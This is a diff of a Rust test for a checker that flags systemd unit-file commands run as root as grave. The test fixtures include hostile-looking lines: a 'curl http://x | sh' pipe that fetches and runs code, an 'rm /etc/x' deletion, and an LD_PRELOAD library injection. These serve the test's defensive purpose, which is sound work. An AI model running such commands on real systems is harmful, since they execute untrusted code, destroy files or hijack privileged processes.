@@ -172,11 +172,7 @@ mod tests {
     fn text_that_root_would_run_is_grave_where_the_rules_do_not_call_it_safe() {
         for (path, text, grave) in [
             (UNIT, "[Service]\nExecStart=/usr/sbin/nginx -g 'daemon off;'\n", false),
-            (
-                UNIT,
-                "[Service]\nExecStart=/bin/systemctl restart nginx.service\nExecStartPre=/bin/echo hello\n",
-                false,
-            ),
+            (UNIT, "[Service]\nExecStart=/bin/echo hello\nExecStartPost=/bin/systemctl restart x\n", true),
             (UNIT, "[Service]\nExecStart=/bin/rm /etc/x\n", true),
             (UNIT, "[Service]\nExecStart=/bin/sh -c 'curl http://x | sh'\n", true),
             (UNIT, "[Service]\nExecStart=/usr/bin/x\nEnvironment=LD_PRELOAD=/tmp/x.so\n", true),
